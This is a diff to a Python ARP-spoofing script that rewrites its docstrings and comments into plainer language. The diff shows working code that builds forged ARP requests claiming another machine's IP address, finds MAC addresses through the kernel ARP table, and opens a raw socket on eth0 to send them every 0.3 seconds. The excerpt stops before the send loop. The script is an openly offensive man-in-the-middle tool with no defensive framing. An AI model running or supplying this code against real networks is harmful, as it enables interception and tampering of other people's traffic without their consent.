@@ -1,6 +1,7 @@
-"""Say to machines, until it is ended, that others are here. Arguments: victim, other, and so on.
+"""Send false ARP packets until the program is terminated. Arguments: VICTIM OTHER ...
 
-ARP has no authentication: whoever says to a victim where another machine is, is believed.
+The victim then sends its packets for the other machine to this one. ARP has no authentication: a
+victim believes any sender.
 """
 
 from __future__ import annotations
@@ -12,28 +13,28 @@ from collections.abc import Sequence
 from pathlib import Path
 
 LINK = "eth0"
-#: Seconds between two lies: the other's own word is soon forgotten.
+#: Seconds between two packets: the other machine's own packets correct the table again.
 PAUSE = 0.3
-#: An ARP packet's type; then Ethernet and IPv4, the lengths of their addresses, "request".
+#: The Ethernet type of ARP; then Ethernet, IPv4, the lengths of their addresses, "request".
 HEAD = bytes.fromhex("08060001080006040001")
 UNKNOWN = "00:00:00:00:00:00"
 
 
 def frame(own: bytes, to: bytes, victim: str, other: str) -> bytes:
-    """Return the packet that asks a victim for its address, as if the other asked from here.
+    """Return an ARP request to a victim that claims the other machine's address for this one.
 
     Parameters
     ----------
     own, to : bytes
         The hardware addresses of this machine and of the victim.
     victim, other : str
-        IPv4 addresses.
+        The IPv4 addresses of the victim and of the other machine.
     """
     return to + own + HEAD + own + socket.inet_aton(other) + bytes(6) + socket.inet_aton(victim)
 
 
 def hardware_address(text: str) -> bytes:
-    """Return a hardware address as it is sent.
+    """Return the bytes of a hardware address.
 
     Examples
     --------
@@ -44,7 +45,7 @@ def hardware_address(text: str) -> bytes:
 
 
 def known(table: str, address: str) -> bytes | None:
-    """Return whose an address is according to the kernel's ARP table, where it says."""
+    """Return the hardware address of an IPv4 address in the kernel's ARP table, or None."""
     for line in table.splitlines():
         fields = line.split()
         if fields[0] == address and fields[3] != UNKNOWN:
@@ -53,7 +54,7 @@ def known(table: str, address: str) -> bytes | None:
 
 
 def owner(address: str) -> bytes:
-    """Have the kernel ask whose an address is, until somebody answers."""
+    """Return the hardware address of an IPv4 address; make the kernel ask until it is known."""
     while True:
         with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
             asking.sendto(b"", (address, 9))
@@ -63,12 +64,12 @@ def owner(address: str) -> bytes:
 
 
 def pairs(addresses: Sequence[str]) -> list[tuple[str, str]]:
-    """Return victims, each with whom it is lied to about."""
+    """Return pairs of a victim's address and the other machine's address."""
     return list(zip(addresses[::2], addresses[1::2], strict=True))
 
 
 def main() -> None:
-    """Lie until somebody ends it."""
+    """Send false packets until the program is terminated."""
     own = hardware_address(Path(f"/sys/class/net/{LINK}/address").read_text())
     link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     link.bind((LINK, 0))
